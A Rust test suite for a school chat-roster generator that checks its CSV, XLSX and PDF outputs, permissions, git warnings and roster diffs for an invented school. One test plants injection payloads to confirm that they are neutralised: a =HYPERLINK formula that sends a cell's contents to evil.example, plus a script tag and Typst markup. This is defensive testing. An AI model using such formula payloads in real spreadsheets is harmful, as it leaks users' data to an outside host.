//! Invite rosters (issue 5, part 2): read back the CSV and XLSX files a build writes for the
//! invented school and check them against its people lists; hostile values stay text.

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use calamine::{open_workbook, Data, Reader, Xlsx};
use common::*;

/// The rows of a roster CSV (`;`-separated, after the BOM), header first.
fn read_csv(path: &Path) -> Vec<Vec<String>> {
    let bytes = std::fs::read(path).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "{}: no UTF-8 BOM", path.display());
    let mut reader = csv::ReaderBuilder::new().delimiter(b';').has_headers(false).from_reader(&bytes[3..]);
    reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect()
}

/// The raw people list of a group: (id, role, council) per row, read without sferum-gen.
fn people(group: &str) -> Vec<(String, String, bool)> {
    let path = root().join("policies/school-max/people").join(format!("{group}.csv"));
    let mut reader = csv::ReaderBuilder::new().comment(Some(b'#')).from_path(path).unwrap();
    reader.records().map(|r| r.unwrap()).map(|r| (r[0].to_string(), r[1].to_string(), &r[8] == "yes")).collect()
}

fn ids_of(list: &[(String, String, bool)], role: &str, council_only: bool) -> BTreeSet<String> {
    list.iter().filter(|(_, r, c)| r == role && (!council_only || *c)).map(|(id, ..)| id.clone()).collect()
}

/// A copy of the valid fixture in a temporary folder, and its policies/ path.
fn valid_fixture_copy() -> (tempfile::TempDir, std::path::PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let policies = tmp.path().join("policies");
    copy_tree(&root().join("tests/fixtures/valid"), &policies);
    (tmp, policies)
}

fn build_school() -> tempfile::TempDir {
    let out = tempfile::tempdir().unwrap();
    let o = run(&["build", "policies", "--only", "school-max", "--out", out.path().to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    out
}

#[test]
fn each_chat_roster_lists_everyone_it_should_once() {
    let out = build_school();
    let rosters = out.path().join("school-max/restricted/rosters");
    let (a3, b7) = (people("3a"), people("7b"));
    assert!(a3.len() + b7.len() >= 40, "the example has at least 40 people");
    let staff = |ids: &[&str]| ids.iter().map(|s| s.to_string()).collect::<BTreeSet<_>>();
    let mut expected: BTreeMap<&str, BTreeSet<String>> = BTreeMap::new();
    expected.insert("3a-students", ids_of(&a3, "student", false));
    expected.insert("3a-parents", ids_of(&a3, "parent", false));
    expected.insert("3a-subject-admin", ids_of(&a3, "student", false));
    expected.insert("7b-students", ids_of(&b7, "student", false));
    expected.insert("7b-parents", ids_of(&b7, "parent", false));
    expected.insert("7b-subject-admin", ids_of(&b7, "student", false));
    expected.insert("7b-subject-class-teacher", ids_of(&b7, "student", false));
    // The admin invites every other member of staff into the teachers' unit.
    expected.insert("teachers-unit", staff(&["head", "deputy", "class-teacher", "psychologist"]));
    expected.insert("head-deputies", staff(&["deputy"]));
    expected.insert("head-teachers", staff(&["admin", "class-teacher", "psychologist"]));
    expected.insert("head-class-teachers", staff(&["class-teacher", "admin"]));
    let mut council: BTreeSet<String> = ids_of(&a3, "parent", true);
    council.extend(ids_of(&b7, "parent", true));
    expected.insert("head-parents", council);
    let mut council: BTreeSet<String> = ids_of(&a3, "student", true);
    council.extend(ids_of(&b7, "student", true));
    expected.insert("head-students", council);

    let files: BTreeSet<String> = std::fs::read_dir(rosters.join("chats")).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    let wanted: BTreeSet<String> = expected.keys().map(|k| format!("{k}.csv")).collect();
    assert_eq!(files, wanted, "one roster per chat");
    for (chat, ids) in &expected {
        let rows = read_csv(&rosters.join("chats").join(format!("{chat}.csv")));
        assert_eq!(rows[0][..6], ["Чат (id)", "Чат", "Кто приглашает", "Роль на платформе", "ID", "Фамилия"]);
        let listed: Vec<&str> = rows[1..].iter().map(|r| r[4].as_str()).collect();
        let unique: BTreeSet<String> = listed.iter().map(|s| s.to_string()).collect();
        assert_eq!(unique.len(), listed.len(), "{chat}: someone is listed twice: {listed:?}");
        assert_eq!(&unique, ids, "{chat}");
        assert!(rows[1..].iter().all(|r| r[0] == *chat), "{chat}: the chat column");
        assert!(!ids.is_empty(), "{chat}: empty roster");
    }
    assert_eq!(expected["3a-parents"].len(), 14);
    assert_eq!(expected["7b-students"].len(), 10);

    // A parent's row: the platform role, the normalised phone, the child by name.
    let parents = read_csv(&rosters.join("chats/3a-parents.csv"));
    let p02 = parents.iter().find(|r| r[4] == "3a-p02").unwrap();
    assert_eq!(p02[3], "родитель (законный представитель)");
    assert_eq!(p02[9], "+79000000102", "8 (900) 000-01-02 normalised");
    assert_eq!(p02[11], "Борисов Максим Олегович");
    assert_eq!(p02[8], "3 «А»");
    assert_eq!(p02[2], "Ким Е.С.", "the curator invites the parents");
}

#[test]
fn each_inviter_gets_a_csv_and_a_sheet_with_their_chats() {
    let out = build_school();
    let rosters = out.path().join("school-max/restricted/rosters");
    let chat_rows = |chats: &[&str]| -> Vec<Vec<String>> {
        chats.iter().flat_map(|c| read_csv(&rosters.join("chats").join(format!("{c}.csv"))).into_iter().skip(1)).collect()
    };
    let inviters = [
        ("admin", "Соколова Д.В.", vec!["teachers-unit", "3a-subject-admin", "7b-students", "7b-parents", "7b-subject-admin"]),
        ("head", "Петренко М.О.", vec!["head-deputies", "head-teachers", "head-class-teachers", "head-parents", "head-students"]),
        ("class-teacher", "Ким Е.С.", vec!["3a-students", "3a-parents", "7b-subject-class-teacher"]),
    ];
    let mut workbook: Xlsx<_> = open_workbook(rosters.join("rosters.xlsx")).unwrap();
    let sheets = workbook.sheet_names();
    assert_eq!(sheets.len(), 3, "{sheets:?}");
    for (id, name, chats) in &inviters {
        let csv_rows = read_csv(&rosters.join("inviters").join(format!("{id}.csv")));
        let mut expected = chat_rows(chats);
        let mut got = csv_rows[1..].to_vec();
        expected.sort();
        got.sort();
        assert_eq!(got, expected, "{id}: the inviter's CSV is the union of their chats' rosters");
        assert!(got.iter().all(|r| r[2] == *name), "{id}");

        assert!(sheets.contains(&name.to_string()), "no sheet `{name}` in {sheets:?}");
        let range = workbook.worksheet_range(name).unwrap();
        let mut sheet: Vec<Vec<String>> = range.rows().map(|r| r.iter().map(|c| match c { Data::String(s) => s.clone(), Data::Empty => String::new(), other => other.to_string() }).collect()).collect();
        assert_eq!(sheet[0], csv_rows[0], "{name}: header");
        let mut body = sheet.split_off(1);
        body.sort();
        assert_eq!(body, got, "{name}: the sheet holds the same rows as the CSV");
    }
    assert_eq!(chat_rows(&inviters[0].2).len(), 4 + 12 + 10 + 12 + 10);
}

#[cfg(unix)]
#[test]
fn roster_files_are_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let out = build_school();
    for e in walkdir::WalkDir::new(out.path().join("school-max/restricted/rosters")).into_iter().filter_map(Result::ok) {
        let mode = e.metadata().unwrap().permissions().mode() & 0o777;
        if e.file_type().is_file() {
            assert_eq!(mode, 0o600, "{}", e.path().display());
        }
    }
    let mode = std::fs::metadata(out.path().join("school-max/restricted")).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o700);
}

/// Formulas, Markdown and HTML in a people list come out as plain text in CSV and XLSX.
#[test]
fn hostile_values_in_a_people_list_stay_text() {
    const FORMULA: &str = r#"=HYPERLINK("https://evil.example/?"&A1,"Открыть")"#;
    const MARKUP: &str = r#"*Ив* <script>alert(1)</script> #panic("x")"#;
    let (tmp, policies) = valid_fixture_copy();
    let list = format!(
        "id,role,surname,name,patronymic,child,phone,email,council\ns1,student,\"{}\",@SUM(1),-2+3,,,,\np1,parent,\"{}\",Ольга,,s1,+7 900 000-10-02,,\n",
        FORMULA.replace('"', "\"\""),
        MARKUP.replace('"', "\"\"")
    );
    std::fs::write(policies.join("demo/people/5a.csv"), list).unwrap();
    // Typst markup in the group's name reaches the handout as text.
    let chats = policies.join("demo/chats.yaml");
    std::fs::write(&chats, std::fs::read_to_string(&chats).unwrap().replace("name: 5 «А»", r##"name: "#panic(\"x\") *5А* $x$ <b>""##)).unwrap();
    let out = tmp.path().join("out");
    let o = run(&["build", policies.to_str().unwrap(), "--out", out.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    let rosters = out.join("demo/restricted/rosters");

    let handout = fold(&pdf_text(&rosters.join("handouts/5a.pdf")));
    assert!(handout.contains(r##"#panic("x") *5А* $x$ <b>: обучающиеся"##), "{handout}");

    let rows = read_csv(&rosters.join("chats/5a-students.csv"));
    assert_eq!(rows[1][5], format!("'{FORMULA}"), "a formula gets a leading apostrophe in CSV");
    assert_eq!(rows[1][6], "'@SUM(1)");
    assert_eq!(rows[1][7], "'-2+3");
    let parents = read_csv(&rosters.join("chats/5a-parents.csv"));
    assert_eq!(parents[1][5], MARKUP);
    assert_eq!(parents[1][11], format!("'{FORMULA} @SUM(1) -2+3"), "the child's name, inert too");

    let mut workbook: Xlsx<_> = open_workbook(rosters.join("rosters.xlsx")).unwrap();
    for name in workbook.sheet_names() {
        let formulas = workbook.worksheet_formula(&name).unwrap();
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "{name}: a cell holds a formula");
    }
    let name = workbook.sheet_names().into_iter().find(|n| n.starts_with("Петров")).unwrap();
    let range = workbook.worksheet_range(&name).unwrap();
    let cells: Vec<String> = range.used_cells().map(|(_, _, c)| c.to_string()).collect();
    assert!(cells.contains(&FORMULA.to_string()), "the XLSX keeps the text as it is: {cells:?}");
    assert!(cells.contains(&MARKUP.to_string()));
}

fn git(dir: &Path, args: &[&str]) {
    let o = std::process::Command::new("git").arg("-C").arg(dir).args(args).output().expect("git runs");
    assert!(o.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&o.stderr));
}

fn tracked_warnings(policies: &Path) -> Vec<String> {
    let o = run(&["check", policies.to_str().unwrap(), "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "warnings only: {}", stdout(&o));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    report["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["code"] == "tracked-by-git")
        .inspect(|d| assert_eq!(d["severity"], "warning"))
        .inspect(|d| assert!(d["hint"].as_str().unwrap().contains(".gitignore"), "{d}"))
        .map(|d| d["file"].as_str().unwrap().rsplit('/').next().unwrap().to_string())
        .collect()
}

/// Real people lists and invite links tracked by git get a loud warning; untracked ones and
/// data marked as invented do not.
#[test]
fn tracked_people_lists_and_invites_are_warned_about() {
    let (_tmp, policies) = valid_fixture_copy();
    let list = policies.join("demo/people/5a.csv");
    let real = std::fs::read_to_string(&list).unwrap().replace("# invented: made-up people for the tests\n", "");
    std::fs::write(&list, real).unwrap();
    let invites = policies.join("demo/invites.yaml");
    std::fs::write(&invites, std::fs::read_to_string(&invites).unwrap().replace("invented: true\n", "")).unwrap();
    git(&policies, &["init", "-q"]);
    assert!(tracked_warnings(&policies).is_empty(), "nothing is tracked yet");
    git(&policies, &["add", "demo/people/5a.csv", "demo/invites.yaml"]);
    assert_eq!(tracked_warnings(&policies), ["invites.yaml", "5a.csv"]);
    // The same files marked as invented: quiet.
    std::fs::copy(root().join("tests/fixtures/valid/demo/people/5a.csv"), &list).unwrap();
    std::fs::copy(root().join("tests/fixtures/valid/demo/invites.yaml"), &invites).unwrap();
    assert!(tracked_warnings(&policies).is_empty());
}

#[test]
fn the_bundled_examples_are_tracked_but_invented() {
    let o = run(&["check", "policies", "--format", "json"]);
    assert!(o.status.success());
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    // The only warnings are the council protocols the real ИТЭП and БПТ acts do not record.
    let codes: Vec<&str> = report["diagnostics"].as_array().unwrap().iter().map(|d| d["code"].as_str().unwrap()).collect();
    assert!(codes.iter().all(|c| *c == "council-protocol-missing"), "{report:#}");
    let tracked = std::process::Command::new("git").args(["ls-files", "policies/school-max/people"]).current_dir(root()).output().unwrap();
    assert!(String::from_utf8_lossy(&tracked.stdout).contains("3a.csv"), "the example lists are in git");
    let list = std::fs::read_to_string(root().join("policies/school-max/people/3a.csv")).unwrap();
    assert!(list.starts_with("# invented"), "and say they are invented");
}

/// What `zbarimg` (zbar-tools) decodes on one page of a PDF rasterised at 150 dpi.
fn qr_on_page(pdf: &Path, page: usize, dir: &Path) -> Vec<String> {
    let prefix = dir.join(format!("page{page}"));
    let n = page.to_string();
    tool_output("pdftoppm", &["-r", "150", "-png", "-singlefile", "-f", &n, "-l", &n, pdf.to_str().unwrap(), prefix.to_str().unwrap()]);
    let png = prefix.with_extension("png");
    let o = std::process::Command::new("zbarimg").args(["-q", "--raw", png.to_str().unwrap()]).output().expect("`zbarimg` must be installed (zbar-tools)");
    String::from_utf8_lossy(&o.stdout).lines().map(str::to_string).collect()
}

/// Each group's handout has a page per chat; where invites.yaml has the chat's link, its QR
/// code decodes to exactly that link, and elsewhere the page says the link is not made yet.
#[test]
fn handout_qr_codes_decode_to_the_invite_links() {
    let tmp = build_examples_with_invites();
    let handouts = tmp.path().join("out/school-max/restricted/rosters/handouts");
    let scratch = tempfile::tempdir().unwrap();
    let pages = [
        ("3a", vec!["3 «А»: обучающиеся", "3 «А»: родители", "3 «А»: Информатика"], vec!["3a-students", "3a-parents", "3a-subject-admin"]),
        ("7b", vec!["7 «Б»: обучающиеся", "7 «Б»: родители", "7 «Б»: Информатика", "7 «Б»: Функциональная грамотность"], vec!["7b-students", "7b-parents", "7b-subject-admin", "7b-subject-class-teacher"]),
    ];
    let rules_form = fold(&pdf_text(&tmp.path().join("out/school-max/public/chat-rules.pdf")));
    let mut decoded_links = 0;
    for (group, titles, chats) in &pages {
        let pdf = handouts.join(format!("{group}.pdf"));
        let text = pdf_text(&pdf);
        let page_texts: Vec<&str> = text.split('\u{c}').filter(|p| !p.trim().is_empty()).collect();
        assert_eq!(page_texts.len(), titles.len(), "{group}: a page per chat");
        for (i, (title, chat)) in titles.iter().zip(chats).enumerate() {
            let page = fold(page_texts[i]);
            // The rules are the chat rules' own list (one source), not a retelling.
            let same = ["Участники чата:", "обсуждают только вопросы, соответствующие назначению чата", "не направляют сообщения в чат с 21:00 до 07:30", "сообщают модератору чата о нарушении правил"];
            assert_has(&page, &[title], &format!("{group} page {}", i + 1));
            assert_has(&page, &same, &format!("{group} page {}", i + 1));
            assert_has(&rules_form, &same[1..], "the chat rules form");
            let found = qr_on_page(&pdf, i + 1, scratch.path());
            match SCHOOL_INVITES.iter().find(|(c, _)| c == chat) {
                Some((_, url)) => {
                    assert_eq!(found, [url.to_string()], "{group} page {}: the QR code", i + 1);
                    assert!(page.contains(url), "{group} page {}: the link in words", i + 1);
                    decoded_links += 1;
                }
                None => {
                    assert!(found.is_empty(), "{group} page {}: a QR code without a link: {found:?}", i + 1);
                    assert!(page.contains("ещё не создана"), "{group} page {}: {page}", i + 1);
                }
            }
        }
    }
    assert_eq!(decoded_links, 3, "the three group links of invites.yaml");
}

const DIFF: &str = "tests/fixtures/roster-diff";

/// (person, chat) of every removal in a diff CSV.
fn removals(csv_path: &Path) -> BTreeSet<(String, String)> {
    read_csv(csv_path).into_iter().skip(1).filter(|r| r[0] == "удалить из чата").map(|r| (r[1].clone(), r[6].clone())).collect()
}

/// Between the two fixture versions of the school's lists: s4 and p4 join; s2 (with her
/// parent p2) and t2 (with q2) leave; s3 and p3 move from 3 «А» to 7 «Б».
#[test]
fn roster_diff_lists_joiners_leavers_movers_and_removals() {
    let tmp = tempfile::tempdir().unwrap();
    let csv_path = tmp.path().join("diff.csv");
    let o = run(&["roster", "diff", &format!("{DIFF}/old"), &format!("{DIFF}/new"), "--institution", "policies/school-max", "--csv", csv_path.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    let text = stdout(&o);
    assert_has(&text, &[
        "Приходят (2):\n  p4 Ершова Дина Олеговна — родитель, 3 «А»\n  s4 Ершов Тихон Маркович — обучающийся, 3 «А»\n",
        "Уходят (4):\n  p2 Белова Жанна Юрьевна — родитель, 3 «А»\n  q2 Дёмин Антон Романович — родитель, 7 «Б»\n  s2 Белова Арина Павловна — обучающийся, 3 «А»\n  t2 Дёмина Кира Антоновна — обучающийся, 7 «Б»\n",
        "Меняют группу (2):\n  p3 Веткина Лиана Петровна — родитель, 3 «А» → 7 «Б»\n  s3 Веткин Савва Олегович — обучающийся, 3 «А» → 7 «Б»\n",
        "Удалить из чатов (11):",
        "3a-parents «3 «А»: родители», удаляет Ким Е.С.: p2 Белова Жанна Юрьевна (родитель выбывшего обучающегося)",
        "head-students «Руководитель и ученический актив», удаляет Петренко М.О.: t2 Дёмина Кира Антоновна (выбывает)",
    ], "the diff");
    let pairs = |list: &[(&str, &str)]| list.iter().map(|(a, b)| (a.to_string(), b.to_string())).collect::<BTreeSet<_>>();
    let expected = pairs(&[
        ("s2", "3a-students"), ("s2", "3a-subject-admin"), ("p2", "3a-parents"),
        ("t2", "7b-students"), ("t2", "7b-subject-admin"), ("t2", "7b-subject-class-teacher"), ("t2", "head-students"), ("q2", "7b-parents"),
        ("s3", "3a-students"), ("s3", "3a-subject-admin"), ("p3", "3a-parents"),
    ]);
    assert_eq!(removals(&csv_path), expected);
    let rows = read_csv(&csv_path);
    let kinds: Vec<(&str, &str)> = rows[1..].iter().filter(|r| r[0] != "удалить из чата").map(|r| (r[0].as_str(), r[1].as_str())).collect();
    assert_eq!(kinds, [("приходит", "p4"), ("приходит", "s4"), ("уходит", "p2"), ("уходит", "q2"), ("уходит", "s2"), ("уходит", "t2"), ("меняет группу", "p3"), ("меняет группу", "s3")]);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(std::fs::metadata(&csv_path).unwrap().permissions().mode() & 0o777, 0o600);
    }
}

/// The school with the two fixture versions of its lists: `dir/old/` and `dir/new/` (each a
/// policies folder with school-max and _registry), `offboarding.remove_parents` as given.
/// Returns the two institution folders.
fn fixture_versions(dir: &Path, remove_parents: bool) -> (PathBuf, PathBuf) {
    for version in ["old", "new"] {
        let inst = dir.join(version).join("school-max");
        copy_tree(&root().join("policies/school-max"), &inst);
        copy_tree(&root().join("policies/_registry"), &dir.join(version).join("_registry"));
        std::fs::remove_dir_all(inst.join("people")).unwrap();
        copy_tree(&root().join(DIFF).join(version), &inst.join("people"));
        let rules = std::fs::read_to_string(inst.join("rules.yaml")).unwrap().replace("remove_parents: true", &format!("remove_parents: {remove_parents}"));
        std::fs::write(inst.join("rules.yaml"), rules).unwrap();
    }
    (dir.join("old/school-max"), dir.join("new/school-max"))
}

/// `roster diff` of two versions: its stdout and the bytes of its --csv file.
fn diff_of(old: &Path, new: &Path, csv_path: &Path) -> (String, Vec<u8>) {
    let o = run(&["roster", "diff", old.to_str().unwrap(), new.to_str().unwrap(), "--csv", csv_path.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    (stdout(&o), std::fs::read(csv_path).unwrap())
}

/// Builds both fixture versions (as two git revisions would) and diffs the two output
/// folders; the result is the source folders' diff, byte for byte. Returns the text.
fn diff_of_builds_matches_diff_of_sources(remove_parents: bool) -> String {
    let tmp = tempfile::tempdir().unwrap();
    let (old, new) = fixture_versions(tmp.path(), remove_parents);
    let mut outs = Vec::new();
    for version in ["old", "new"] {
        let out = tmp.path().join(format!("out-{version}"));
        let o = run(&["build", tmp.path().join(version).to_str().unwrap(), "--only", "school-max", "--out", out.to_str().unwrap()]);
        assert!(o.status.success(), "{}", stderr(&o));
        outs.push(out.join("school-max"));
    }
    let (text, csv) = diff_of(&old, &new, &tmp.path().join("sources.csv"));
    let (built_text, built_csv) = diff_of(&outs[0], &outs[1], &tmp.path().join("builds.csv"));
    assert_eq!(built_text, text, "the diff of the builds");
    assert_eq!(built_csv, csv, "the CSV of the builds' diff");
    text
}

/// Two build outputs (`out/<id>/` at two revisions) give the joiners, leavers, movers and
/// removals the source folders give.
#[test]
fn roster_diff_of_two_build_outputs_matches_the_source_diff() {
    let text = diff_of_builds_matches_diff_of_sources(true);
    assert_has(&text, &["Приходят (2):", "Уходят (4):", "Меняют группу (2):", "Удалить из чатов (11):", "3a-parents «3 «А»: родители», удаляет Ким Е.С.: p2 Белова Жанна Юрьевна (родитель выбывшего обучающегося)"], "the diff");
    assert!(!text.contains("offboarding.remove_parents: false"), "{text}");
}

/// The off-boarding rule travels in config/runtime.json: with remove_parents false the
/// parents of leavers stay in the builds' diff too.
#[test]
fn roster_diff_of_build_outputs_follows_the_offboarding_rule() {
    let text = diff_of_builds_matches_diff_of_sources(false);
    assert_has(&text, &["Удалить из чатов (9):", "offboarding.remove_parents: false", "  p2 Белова Жанна Юрьевна\n", "  q2 Дёмин Антон Романович\n"], "the diff");
}

/// A folder with restricted/rosters/chats/ and a runtime config (an output folder's shape)
/// whose one chat roster is `csv`.
fn output_folder(dir: &Path, csv: &str) -> PathBuf {
    let chats = dir.join("restricted/rosters/chats");
    std::fs::create_dir_all(&chats).unwrap();
    std::fs::create_dir_all(dir.join("config")).unwrap();
    std::fs::write(dir.join("config/runtime.json"), r#"{"offboarding": {"remove_leavers": true, "remove_parents_of_leavers": true}, "chats": []}"#).unwrap();
    let path = chats.join("3a-students.csv");
    std::fs::write(&path, format!("\u{feff}{csv}")).unwrap();
    path
}

/// An output folder against a source folder is refused with exit 2 and says why; so is a
/// malformed roster CSV in an output folder, named file:line.
#[test]
fn roster_diff_refuses_mixed_kinds_and_malformed_output_rosters() {
    let tmp = tempfile::tempdir().unwrap();
    let header = "Чат (id);Чат;Кто приглашает;Роль на платформе;ID;Фамилия;Имя;Отчество;Класс/группа;Телефон;E-mail;Ребёнок\r\n";
    let good = tmp.path().join("good");
    output_folder(&good, &format!("{header}3a-students;3 «А»: обучающиеся;Ким Е.С.;обучающийся;s1;Ершов;Тихон;;3 «А»;;;\r\n"));
    let o = run(&["roster", "diff", good.to_str().unwrap(), &format!("{DIFF}/new"), "--institution", "policies/school-max"]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert_has(&stderr(&o), &["нельзя сравнить папку результатов", &format!("`{}`", good.display()), "две папки результатов"], "the error");
    assert!(stdout(&o).is_empty(), "no diff printed");

    let bad = tmp.path().join("bad");
    let list = output_folder(&bad, &format!("{header}3a-students;3 «А»: обучающиеся;Ким Е.С.;обучающийся;s1\r\n"));
    let o = run(&["roster", "diff", good.to_str().unwrap(), bad.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert_has(&stderr(&o), &[&format!("{}:2: это не CSV-список приглашений: в строке значений: 5, а в списке приглашений их 12", list.display())], "the error");
    assert!(stdout(&o).is_empty(), "no diff printed");

    let other = tmp.path().join("other");
    let row = "3a-students;3 «А»: обучающиеся;Ким Е.С.;обучающийся;s1;Ершов;Тихон;;3 «А»;;;\r\n";
    let list = output_folder(&other, &format!("{header}{row}{}", row.replacen("3a-students", "7b-students", 1)));
    let o = run(&["roster", "diff", good.to_str().unwrap(), other.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert_has(&stderr(&o), &[&format!("{}:3: строка относится к чату `7b-students`", list.display())], "the error");
}

/// With `offboarding.remove_parents: false` the parents of leavers stay in their chats, and
/// two institution folders compare like two people folders.
#[test]
fn roster_diff_follows_the_offboarding_rule() {
    let tmp = tempfile::tempdir().unwrap();
    let (old, new) = fixture_versions(tmp.path(), false);
    let csv_path = tmp.path().join("diff.csv");
    let o = run(&["roster", "diff", old.to_str().unwrap(), new.to_str().unwrap(), "--csv", csv_path.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    let got = removals(&csv_path);
    assert!(!got.iter().any(|(p, _)| p == "p2" || p == "q2"), "parents of leavers stay: {got:?}");
    assert!(got.contains(&("s2".into(), "3a-students".into())) && got.contains(&("p3".into(), "3a-parents".into())), "{got:?}");
    assert_has(&stdout(&o), &["offboarding.remove_parents: false", "  p2 Белова Жанна Юрьевна\n", "  q2 Дёмин Антон Романович\n"], "the diff");
}

/// An invalid version stops the diff with exit 1, and the diagnostic names the user's file.
#[test]
fn roster_diff_of_an_invalid_list_points_at_it() {
    let tmp = tempfile::tempdir().unwrap();
    let new = tmp.path().join("new");
    copy_tree(&root().join(DIFF).join("new"), &new);
    let list = new.join("3a.csv");
    std::fs::write(&list, std::fs::read_to_string(&list).unwrap().replace("+7 900 000-20-04", "+7 800 000-20-04")).unwrap();
    let o = run(&["roster", "diff", &format!("{DIFF}/old"), new.to_str().unwrap(), "--institution", "policies/school-max"]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert_has(&stderr(&o), &["ошибка[csv-bad-phone]", &format!("{}:6:", list.display()), "+7 800 000-20-04"], "the report");
    assert!(stdout(&o).is_empty(), "no diff printed");
}

/// Two builds with invite links give the same bytes for every roster, workbook and handout.
#[test]
fn rosters_and_handouts_are_byte_identical_across_builds() {
    let (a, b) = (build_examples_with_invites(), build_examples_with_invites());
    let rosters = |t: &tempfile::TempDir| hashes(&t.path().join("out/school-max/restricted/rosters"));
    let (ha, hb) = (rosters(&a), rosters(&b));
    assert_eq!(ha.len(), 19, "{:?}", ha.keys());
    assert_eq!(ha, hb);
}

/// A list saved by Excel with a byte-order mark reads the same; columns count without it.
#[test]
fn a_list_with_a_byte_order_mark_is_read() {
    let (_tmp, policies) = valid_fixture_copy();
    let list = policies.join("demo/people/5a.csv");
    let text = std::fs::read_to_string(&list).unwrap();
    let header_first: String = text.lines().skip(1).map(|l| format!("{l}\n")).collect();
    std::fs::write(&list, format!("\u{feff}{header_first}")).unwrap();
    let o = run(&["check", policies.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    std::fs::write(&list, format!("\u{feff}{}", header_first.replacen("id,role", "id,rol", 1))).unwrap();
    let o = run(&["check", policies.to_str().unwrap(), "--format", "json"]);
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let d = report["diagnostics"].as_array().unwrap().iter().find(|d| d["code"] == "csv-unknown-column").expect("the misspelt column");
    assert_eq!((d["line"].as_u64(), d["column"].as_u64()), (Some(1), Some(4)), "{report:#}");
    assert!(d["message"].as_str().unwrap().contains("`rol`"), "{d}");
}
